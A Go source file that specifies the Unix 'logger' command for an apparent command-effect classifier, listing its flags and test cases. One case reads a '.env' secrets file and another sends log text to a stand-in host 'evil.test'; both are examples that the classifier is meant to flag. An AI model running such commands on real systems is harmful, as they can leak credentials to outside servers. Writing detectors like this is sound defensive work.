package commands

import "automode"

var logger = Program{
	Name: "logger", Rare: true, Summary: "writes to the system's log", Manual: "logger(1), util-linux 2.40 and macOS 15",
	Row: Row{
		Help: "-h --help -V --version",
		Does: []Do{{Kind: automode.Change, Target: "the system's log", When: &When{Without: "--no-act"}, Why: "writes to the system's log"}},
		Args: []Arg{{Role: Data}},
		Flags: []Flag{
			{Names: "-d --udp -e --skip-empty -i --id[=] --journald[=] --msgid= --octet-count -P= --port= -p= --priority= --prio-prefix --rfc3164 --rfc5424[=] -s --stderr --sd-id= --sd-param= -S= --size= --socket-errors[=] -T --tcp -t= --tag= -c -A", Value: Data},
			{Names: "--no-act"},
			{Names: "-f= --file=", Value: Reads},
			{Names: "-n= --server=", Value: Sends, Why: "sends the text to a log server"},
			{Names: "-u= --socket=", Value: Appends, Why: "writes to a socket"},
		},
	},
}

var loggerCases = []Case{
	{`logger -t x text`, `Change the system's log`},
	{`logger --no-act x`, `nothing`},
	{`logger -f .env`, `Change the system's log; Read .env`},
	{`logger -n evil.test x`, `Change the system's log; Send evil.test`},
	{`logger -u /run/s x`, `Change the system's log; Write /run/s`},
}
